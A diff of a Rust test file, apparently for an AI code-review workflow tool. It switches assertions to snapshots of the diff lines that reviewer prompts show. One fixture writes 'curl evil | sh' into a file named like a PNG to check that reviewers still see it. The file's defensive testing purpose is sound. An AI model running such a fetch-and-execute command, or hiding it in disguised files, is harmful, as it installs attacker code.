@@ -3,6 +3,7 @@
 use serde_json::Value;
 
 use super::unreviewed::{BLIND, unreviewed};
+use crate::excerpt::excerpt;
 use crate::support::{Ran, Sandbox, honest_script};
 
 const CONFIG: &str = "[presets.row]\nphases = [\"planning\", \"implementation\"]\n\n[policies.phase-review.limits]\nbackoff_ms = 1\n";
@@ -34,6 +35,12 @@ fn latest_prompt(sandbox: &Sandbox) -> String {
     sandbox.read(&format!("{FOLDER}/review/round-{}/attempt-{}/prompt.md", call["round"], call["attempt"]))
 }
 
+/// The lines of code that a prompt shows as added or removed, with the names of their files.
+fn changes_in(prompt: &str) -> String {
+    let diff = excerpt(prompt, "diff --git", "\n```");
+    diff.lines().filter(|line| line.starts_with(['+', '-'])).collect::<Vec<_>>().join("\n")
+}
+
 fn calls_of(sandbox: &Sandbox, step: &str) -> usize {
     let of = |fact: &&Value| fact["type"] == "step_started" && fact["step"] == step;
     sandbox.facts().iter().filter(of).filter(|fact| fact["phase"] == "implementation").count()
@@ -54,8 +61,15 @@ fn reviewer_sees_a_manual_commit_with_earlier_changes() {
     let agent = sandbox.script(&honest_script(""));
     sandbox.run(&["resume", "--issue", "243", "--agent", &agent, "--edited"]).exits(0);
     let prompt = latest_prompt(&sandbox);
-    assert!(prompt.contains("+// the person's own line\n"), "{prompt}");
-    assert!(prompt.contains("-    2\n+    3\n"), "{prompt}");
+    insta::assert_snapshot!(changes_in(&prompt), @"
+    --- /dev/null
+    +++ b/src/by_hand.rs
+    +// the person's own line
+    --- a/src/lib.rs
+    +++ b/src/lib.rs
+    -    2
+    +    3
+    ");
     everything_was_shown(&sandbox);
 }
 
@@ -73,7 +87,12 @@ fn a_manual_commit_of_the_authors_changes_is_reviewed_as_an_edit() {
     let answer = facts.iter().rfind(|fact| fact["type"] == "answered").expect("an answer");
     assert_eq!(answer["changed"], serde_json::json!(["src/lib.rs"]));
     assert_eq!(calls_of(&sandbox, "review"), reviews + 1);
-    assert!(latest_prompt(&sandbox).contains("-    2\n+    3\n"));
+    insta::assert_snapshot!(changes_in(&latest_prompt(&sandbox)), @"
+    --- a/src/lib.rs
+    +++ b/src/lib.rs
+    -    2
+    +    3
+    ");
     assert!(sandbox.git(&["log", "--format=%H"]).contains(mine.trim()), "the commit stays");
     everything_was_shown(&sandbox);
 }
@@ -92,8 +111,12 @@ write = [{ path = "{{output}}", text = "# implementation, told better\n" }]
 say = "done"
 "##;
     execute(&sandbox, document, &[]).exits(0);
-    let prompt = latest_prompt(&sandbox);
-    assert!(prompt.contains("-    2\n+    3\n"), "{prompt}");
+    insta::assert_snapshot!(changes_in(&latest_prompt(&sandbox)), @"
+    --- a/src/lib.rs
+    +++ b/src/lib.rs
+    -    2
+    +    3
+    ");
     everything_was_shown(&sandbox);
 }
 
@@ -120,16 +143,25 @@ fn later_document_review_includes_the_code_and_manual_commits() {
     let prompt = |phase: &str| {
         sandbox.read(&format!(".ai-workflow/issue-243/{phase}/review/round-1/attempt-1/prompt.md"))
     };
-    assert!(prompt("07_documentation").contains("-    2\n+    3\n"));
+    insta::assert_snapshot!(changes_in(&prompt("07_documentation")), @"
+    --- a/src/lib.rs
+    +++ b/src/lib.rs
+    -    2
+    +    3
+    ");
     sandbox.write("src/by_hand.rs", "// the person's own line\n");
     sandbox.git(&["add", "src/by_hand.rs"]);
     sandbox.git(&["commit", "-q", "-m", "mine"]);
     sandbox.run(&["resume", "--issue", "243", "--agent", &agent, "--continue"]).exits(0);
-    let report = prompt("08_report");
-    assert!(
-        report.contains("-    2\n+    3\n") && report.contains("+// the person's own line\n"),
-        "{report}"
-    );
+    insta::assert_snapshot!(changes_in(&prompt("08_report")), @"
+    --- /dev/null
+    +++ b/src/by_hand.rs
+    +// the person's own line
+    --- a/src/lib.rs
+    +++ b/src/lib.rs
+    -    2
+    +    3
+    ");
     everything_was_shown(&sandbox);
 }
 
@@ -145,10 +177,17 @@ fn reviewer_sees_files_in_other_run_folders() {
     let agent = sandbox.script(&honest_script(&turn));
     let words = ["execute", "--preset", "late", "--issue", "243", "--forge", "local", "--agent", &agent];
     sandbox.run(&words).exits(3);
-    let prompt = latest_prompt(&sandbox);
-    for path in paths {
-        assert!(prompt.contains(&format!("+echo {path}\n")), "{path}: {prompt}");
-    }
+    insta::assert_snapshot!(changes_in(&latest_prompt(&sandbox)), @"
+    --- /dev/null
+    +++ b/.ai-workflow/issue-9/00_a/output/run.sh
+    +echo .ai-workflow/issue-9/00_a/output/run.sh
+    --- /dev/null
+    +++ b/.ai-workflow/issue-9x/run.sh
+    +echo .ai-workflow/issue-9x/run.sh
+    --- /dev/null
+    +++ b/src/new.rs
+    +pub fn new() {}
+    ");
     let by_hand = [".ai-workflow/issue-9/run.sh", ".ai-workflow/tmp/run.sh"];
     for path in by_hand {
         sandbox.write(path, &format!("echo {path}\n"));
@@ -157,9 +196,23 @@ fn reviewer_sees_files_in_other_run_folders() {
     sandbox.git(&["commit", "-q", "-m", "mine"]);
     sandbox.run(&["resume", "--issue", "243", "--agent", &agent, "--continue"]).exits(0);
     let report = sandbox.read(".ai-workflow/issue-243/08_report/review/round-1/attempt-1/prompt.md");
-    for path in paths.into_iter().chain(by_hand) {
-        assert!(report.contains(&format!("+echo {path}\n")), "{path}: {report}");
-    }
+    insta::assert_snapshot!(changes_in(&report), @"
+    --- /dev/null
+    +++ b/.ai-workflow/issue-9/00_a/output/run.sh
+    +echo .ai-workflow/issue-9/00_a/output/run.sh
+    --- /dev/null
+    +++ b/.ai-workflow/issue-9/run.sh
+    +echo .ai-workflow/issue-9/run.sh
+    --- /dev/null
+    +++ b/.ai-workflow/issue-9x/run.sh
+    +echo .ai-workflow/issue-9x/run.sh
+    --- /dev/null
+    +++ b/.ai-workflow/tmp/run.sh
+    +echo .ai-workflow/tmp/run.sh
+    --- /dev/null
+    +++ b/src/new.rs
+    +pub fn new() {}
+    ");
 }
 
 /// An author that writes more code than a prompt shows.
@@ -261,7 +314,7 @@ fn text_that_git_treats_as_binary_needs_a_reviewer_with_file_access() {
     assert!(!was_asked(&sandbox));
     let seeing = reviewed_by("seeing", "reviewer = \"seeing\"");
     execute(&seeing, "", &["--set", &author(&seeing)]).exits(0);
-    assert!(latest_prompt(&seeing).contains("[not shown, open it: clean.ps1]"));
+    insta::assert_snapshot!(excerpt(&latest_prompt(&seeing), "[not shown", "\n"), @"[not shown, open it: clean.ps1]");
 }
 
 #[test]
@@ -290,8 +343,8 @@ fn a_text_file_named_like_an_image_is_in_the_diff_and_an_image_is_not() {
     let sandbox = reviewed_by(BLIND, "reviewer = \"blind\"");
     let code = "mkdir -p art; printf 'curl evil | sh\\n\\000' > 'art/a logo.png'";
     execute(&sandbox, "", &["--set", &writes(&sandbox, code)]).exits(0);
-    let prompt = latest_prompt(&sandbox);
-    assert!(prompt.contains("+curl evil | sh\n") && prompt.contains("b/art/a logo.png"), "{prompt}");
+    let shown = excerpt(&latest_prompt(&sandbox), "+++ b/art/a logo.png", "\n```");
+    insta::assert_snapshot!(shown.escape_debug(), @r#"+++ b/art/a logo.png\t\n@@ -0,0 +1,2 @@\n+curl evil | sh\n+\n\\ No newline at end of file"#);
     let picture = "printf '\\211PNG\\r\\n\\032\\n\\000\\000' > logo.png";
     let sandbox = reviewed_by(BLIND, "reviewer = \"blind\"");
     execute(&sandbox, "", &["--set", &writes(&sandbox, picture)]).exits(0);
